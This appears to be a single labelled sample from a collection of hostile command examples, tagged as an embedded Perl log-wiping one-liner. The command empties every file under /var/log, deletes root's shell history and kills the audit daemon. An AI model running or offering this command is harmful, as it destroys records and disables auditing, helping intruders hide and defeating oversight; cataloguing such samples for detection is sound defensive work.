# class: embedded, perl -e log wiping; style: one-liner
perl -e 'for (glob("/var/log/*")) { open(F, ">", $_) and close(F) } unlink("/root/.bash_history"); system("pkill -9 auditd")'
